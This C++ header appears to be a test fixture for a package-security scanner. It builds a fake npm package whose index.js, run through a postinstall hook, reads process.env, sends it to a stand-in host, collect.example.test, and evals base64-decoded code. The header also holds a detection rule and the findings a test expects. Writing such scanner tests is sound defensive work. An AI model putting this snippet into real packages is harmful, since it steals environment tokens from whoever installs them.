// A package of two files with one finding in plain text and one in decoded code, for the tests of
// the writers.
#pragma once

#include <string>

#include "report/report.h"

namespace assay {

inline constexpr Rule sends_rule = {
    .id = "environment-is-sent",
    .title = "The environment is sent to a server",
    .why = "Environment variables hold tokens.",
    .harmless_when = "Only named, harmless variables are sent.",
    .severity = Severity::critical,
    .check = nullptr,
};
inline constexpr Rule readme_rule = {
    .id = "readme-is-missing",
    .title = "There is no README",
    .why = "Packages made in a hurry have none.",
    .harmless_when = "The package is internal.",
    .severity = Severity::low,
    .check = nullptr,
};
inline constexpr const Rule* rules_for_test[] = {&sends_rule, &readme_rule};
inline const Tool tool_for_test = {"1.2.3", "abc", rules_for_test};

struct Incident {
  Incident() {
    package.id = {Ecosystem::npm, "demo", "1.0.0"};
    package.kind = ArtifactKind::npm_tarball;
    package.source = "demo-1.0.0.tgz";
    package.sha256 = std::string(64, 'a');
    package.archive_bytes = 512;
    package.files.resize(2);
    package.files[0].path = "index.js";
    package.files[0].bytes =
        "const e = process.env;\n\tsend('https://collect.example.test/x', "
        "e);\neval(atob('c2VuZCgp'));\n";
    package.files[0].kind = FileKind::javascript;
    package.files[1].path = "package.json";
    package.files[1].bytes = "{}";
    facts.package = &package;
    facts.files.resize(2);
    facts.files[0].trigger = Trigger::install;
    facts.files[0].reached_by = "postinstall";
    facts.layers.push_back(
        {Layer::Kind::javascript, range(0, "eval"), 1, "base64", "x();\n send()"});
    const Where decoded = {.file = 0, .layer = 0, .begin = 6, .end = 12};
    findings = {
        {sends_rule.id,
         Severity::critical,
         range(0, "send('https://collect.example.test/x', e)"),
         "sends process.env to https://collect.example.test/x",
         {{range(0, "process.env"), "reads process.env"}, {decoded, "sends it"}}},
        {sends_rule.id, Severity::critical, decoded, "sends it from decoded code", {}},
        {readme_rule.id, Severity::low, {}, "has no README", {}},
    };
  }

  Where range(std::int32_t file, std::string_view text) const {
    const std::size_t at = package.files[static_cast<std::size_t>(file)].bytes.find(text);
    return {file, -1, static_cast<std::uint32_t>(at), static_cast<std::uint32_t>(at + text.size())};
  }

  Report report() const {
    return build_report(facts, findings, decide(findings, facts, {}), rules_for_test);
  }

  Package package;
  Facts facts;
  std::vector<Finding> findings;
};

inline Report clean_report() {
  Report report;
  report.target = report.archive = "clean.tgz";
  report.id = {Ecosystem::npm, "clean", "2.0.0"};
  report.files = 3;
  return report;
}

}  // namespace assay
